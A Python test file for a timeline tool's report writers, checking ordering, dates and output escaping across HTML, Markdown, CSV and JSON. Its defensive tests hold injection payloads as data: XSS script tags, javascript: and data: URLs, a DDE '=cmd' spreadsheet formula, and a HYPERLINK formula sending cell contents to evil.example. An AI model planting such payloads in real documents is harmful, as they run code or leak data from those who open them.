"""The report files: the same rows everywhere, display dates, and the escaping rules of each format."""

from __future__ import annotations

import csv
import io
import json
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest

import timeline
from timeline.render import report
from timeline.render.registry import REPORTS, writer_of
from timeline.render.rows import COLUMNS, record_row, rows_of
from timeline.safety import safe_url

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures"


@pytest.fixture(scope="module")
def seed() -> timeline.Log:
    return timeline.load(Path(__file__).resolve().parents[2] / "events.yaml")


@pytest.fixture(scope="module")
def hostile() -> timeline.Log:
    return timeline.load(FIXTURES / "hostile.yaml")


def write(log: timeline.Log, name: str) -> str:
    return "".join(writer_of(REPORTS[name])(log, rows_of(log.records, log.sources)))


# --- rows ---------------------------------------------------------------------------------------------------------

def test_rows_are_the_shared_rows_in_log_order(seed: timeline.Log) -> None:
    rows = rows_of(seed.records, seed.sources)
    assert rows == [record_row(r, seed.sources) for r in seed.records]
    assert [r["id"] for r in rows][:3] == ["openai-founded", "superalignment-formed", "board-coup"]


@pytest.mark.parametrize("event_id, display, phrase", [
    # a day, a range it lies in, a span
    ("sutskever-leaves", "Tue 14 May 2024",
     "\u201cTuesday\u201d: the most recent Tuesday on or before Fri 17 May 2024"),
    ("leike-resigns", "between 13 and 16 May 2024",
     "\u201cearlier this week\u201d: this week up to the day before Fri 17 May 2024"),
    ("board-coup", "17-22 Nov 2023", "\u201clast year\u201d: the previous year of Fri 17 May 2024 "
                                     "(2 claims reconciled; date from openai-leadership)"),
    # the founding day comes from OpenAI's post, not from the article the event's own claim cites
    ("openai-founded", "Fri 11 December 2015", "\u201cDecember 2015\u201d: December 2015 "
                                            "(2 claims reconciled; date from openai-introducing)"),
])
def test_display_date_and_how_the_phrase_was_read(seed: timeline.Log, event_id: str, display: str,
                                                  phrase: str) -> None:
    row = next(r for r in rows_of(seed.records, seed.sources) if r["id"] == event_id)
    assert row["display"] == display
    assert report.phrase_words(row) == phrase
    for name in ("report.html", "report.md"):
        assert display in write(seed, name)
    if "date from" in phrase:  # the reports name the credited source by its title
        title = seed.sources[phrase.rsplit(" ", 1)[1].rstrip(")")].title
        assert f"date from {title}" in write(seed, "report.md").replace("\\", "")


def test_every_writer_lists_every_event_in_order(seed: timeline.Log) -> None:
    ids = [r.id for r in seed.records]
    for name in REPORTS:
        text = write(seed, name)
        positions = [text.index(i) for i in ids]
        assert positions == sorted(positions), name


# --- HTML ---------------------------------------------------------------------------------------------------------

ALLOWED_TAGS = {"html", "head", "meta", "title", "style", "body", "main", "h1", "p", "div", "table", "caption",
                "colgroup", "col", "thead", "tr", "th", "tbody", "td", "br", "span", "a"}
ALLOWED_ATTRS = {"charset", "name", "content", "http-equiv", "lang", "class", "id", "scope", "href", "rel",
                 "target", "tabindex", "role", "aria-label", "data-label"}


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def parsed(text: str) -> Tags:
    tags = Tags()
    tags.feed(text)
    return tags


def test_report_html_has_only_our_tags_attributes_and_links(hostile: timeline.Log) -> None:
    doc = parsed(write(hostile, "report.html"))
    assert {t for t, _ in doc.tags} <= ALLOWED_TAGS
    assert {a for _, attrs in doc.tags for a in attrs} <= ALLOWED_ATTRS
    hrefs = [attrs["href"] for t, attrs in doc.tags if t == "a"]
    assert hrefs and all(h is not None and safe_url(h) == h for h in hrefs)
    assert "https://example.com/a|b(c)[d]&q=1*2_3#x" in hrefs  # the ampersand escaped in the file, intact here
    # a source opens in a new tab that cannot reach back to the report
    links = [attrs for t, attrs in doc.tags if t == "a"]
    assert {(a["target"], a["rel"]) for a in links} == {("_blank", "noopener noreferrer nofollow")}
    text = "".join(doc.text)
    assert "<script>window.__pwned=9;alert(9)</script>" in text  # shown as text, exactly as written
    assert "\u202e" not in text


def test_a_link_that_is_not_http_or_mailto_is_text_only() -> None:
    row = {c: None for c in COLUMNS} | {"id": "x", "title": "t", "display": "d", "precision": "day", "phrase": "p",
                                         "tags": [], "actors": [], "claims": 1, "source": "s", "source_title": "S"}
    for url in ("javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "JaVaScRiPt:alert(1)",
                "https://ok.example/\" onmouseover=\"alert(1)", "vbscript:x"):
        html = report.table_html([row | {"url": url}], caption="c")
        assert "<a " not in html and "href" not in html, url
    mailto = report.table_html([row | {"url": "mailto:desk@example.org"}], caption="c")
    assert '<a href="mailto:desk@example.org" target="_blank"' in mailto


def test_report_html_is_self_contained(seed: timeline.Log) -> None:
    html = write(seed, "report.html")
    assert "<script" not in html and "src=" not in html and "@import" not in html
    assert "default-src 'none'" in html
    assert "<title>OpenAI&#x27;s safety exodus, 2023-2024: report</title>" in html


# --- Markdown -----------------------------------------------------------------------------------------------------

def cells(line: str) -> list[str]:
    """Give the cells of a Markdown table line, splitting only on unescaped pipes."""
    return [c.strip() for c in re.split(r"(?<!\\)\|", line)[1:-1]]


def test_markdown_cells_cannot_break_the_table(hostile: timeline.Log) -> None:
    text = write(hostile, "report.md")
    lines = text.splitlines()
    table = [line for line in lines if line.startswith("|")]
    assert len(table) == 2 + len(hostile.records)  # no value's newline started a line of its own
    assert all(len(cells(line)) == len(report.TABLE_HEADERS) for line in table)
    assert "<" not in text.replace("](<", "").replace(">)", "")  # no raw HTML, only our link brackets
    assert not any(line.startswith("#") for line in lines[1:])  # "# heading" in a title stays in its cell
    assert "\u202e" not in text


def test_markdown_links_are_ours_and_percent_encode_what_would_end_them(hostile: timeline.Log) -> None:
    text = write(hostile, "report.md")
    assert "(<https://example.com/a%7Cb%28c%29%5Bd%5D&q=1*2_3#x>)" in text
    assert "](javascript:" not in text and "](data:" not in text
    assert "\\[a link\\]\\(javascript:window.\\_\\_pwned=4\\)" in text  # the description's link is inert text


# --- CSV ----------------------------------------------------------------------------------------------------------

def test_csv_neutralises_formulas(hostile: timeline.Log) -> None:
    rows = list(csv.DictReader(io.StringIO(write(hostile, "report.csv"), newline="")))
    assert len(rows) == len(hostile.records)
    for row in rows:
        for column in ("title", "quote", "tags", "actors", "notes", "source_title", "publisher"):
            assert row[column][:1] not in ("=", "+", "-", "@", "\t", "\r"), (column, row[column])
    formula = next(r for r in rows if r["id"] == "formula-title")
    assert formula["title"] == "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")"
    assert formula["actors"] == "'=cmd|' /C calc'!A0"
    assert formula["notes"] == "'@SUM(A1)"


def test_csv_has_every_column_in_order(seed: timeline.Log) -> None:
    header = write(seed, "report.csv").splitlines()[0]
    assert header == ",".join(COLUMNS)


# --- JSON ---------------------------------------------------------------------------------------------------------

def test_json_round_trips_the_rows_one_event_per_line(hostile: timeline.Log) -> None:
    text = write(hostile, "events.json")
    assert json.loads(text) == rows_of(hostile.records, hostile.sources)
    lines = text.splitlines()
    assert lines[0] == "[" and lines[-1] == "]" and len(lines) == len(hostile.records) + 2
    assert list(json.loads(lines[1].rstrip(","))) == list(COLUMNS)


def test_empty_log_writes_empty_reports() -> None:
    log = timeline.loads("title: nothing yet\nevents: []\n")
    assert write(log, "events.json") == "[]\n"
    assert "0 events" in write(log, "report.md")
    assert write(log, "report.csv").splitlines() == [",".join(COLUMNS)]


@pytest.mark.parametrize("name", ["report.csv", "events.json", "report.md", "report.html"])
def test_writing_in_pieces_gives_the_same_text(hostile: timeline.Log, name: str,
                                               monkeypatch: pytest.MonkeyPatch) -> None:
    from timeline.render.formats import to_csv

    rows = rows_of(hostile.records, hostile.sources)
    monkeypatch.setattr(report, "CSV_BATCH", 2)
    pieces = list(writer_of(REPORTS[name])(hostile, rows))
    assert len(pieces) > 2
    if name == "report.csv":
        assert "".join(pieces) == to_csv(rows)  # batches, joined, are one CSV with one header
    if name == "events.json":
        assert json.loads("".join(pieces)) == rows


# --- a huge log: the tables list up to REPORT_TABLE_MAX events, CSV and JSON every one ---------------------------

def _table_ids(name: str, text: str) -> list[str]:
    if name == "report.html":
        return re.findall(r'<th scope="row" id="ev-([^"]+)"', text)
    return re.findall(r"\*\* \(([^)]+)\) \|", text)


@pytest.mark.parametrize(("cap", "listed"), [
    # the seed has 8 events: a cap at or above it lists them all, and the report is what it was without a cap
    (8, 8),
    (100, 8),
    # below it: the first `cap` in date order, the caption and a notice say how many of how many
    (7, 7),
    (3, 3),
    (1, 1),
])
@pytest.mark.parametrize("name", ["report.html", "report.md"])
def test_the_tables_of_a_huge_log_list_the_first_events_and_say_where_the_rest_are(
        seed: timeline.Log, monkeypatch: pytest.MonkeyPatch, name: str, cap: int, listed: int) -> None:
    whole = write(seed, name)
    monkeypatch.setattr(report, "REPORT_TABLE_MAX", cap)
    text = write(seed, name)
    ids = [r.id for r in seed.records]
    assert _table_ids(name, whole) == ids
    assert _table_ids(name, text) == ids[:listed]
    notice = f"This report lists the first {cap:,} of {len(ids)} events, in date order"
    if listed == len(ids):
        assert text == whole
        assert "report lists the first" not in text
    else:
        assert f"the first {cap:,} of {len(ids)} events, in date order" in text  # the caption
        assert notice in text
        if name == "report.html":
            assert '<a href="report.csv">report.csv</a> and <a href="events.json">events.json</a>' in text
            assert ".notice {" in text


@pytest.mark.parametrize("name", ["report.csv", "events.json"])
def test_csv_and_json_hold_every_event_whatever_the_cap(seed: timeline.Log, monkeypatch: pytest.MonkeyPatch,
                                                        name: str) -> None:
    whole = write(seed, name)
    monkeypatch.setattr(report, "REPORT_TABLE_MAX", 2)
    assert write(seed, name) == whole


@pytest.mark.parametrize(("report_max", "says"), [
    (8, 'the table of every event is in <a href="report.html">report.html</a>'),
    (5, 'the first 5 are in the table of <a href="report.html">report.html</a> next to this page, and every event '
        'is in <a href="report.csv">report.csv</a>'),
])
def test_the_page_of_many_events_says_which_report_holds_them(seed: timeline.Log, monkeypatch: pytest.MonkeyPatch,
                                                              report_max: int, says: str) -> None:
    from timeline.render import page

    monkeypatch.setattr(page, "TABLE_MAX", 3)  # the page lists 3 events at most: it points to the reports
    monkeypatch.setattr(page, "REPORT_TABLE_MAX", report_max)
    html = page.timeline_html(seed)
    assert "8 events are more than this page lists (up to 3)" in html
    assert says in html
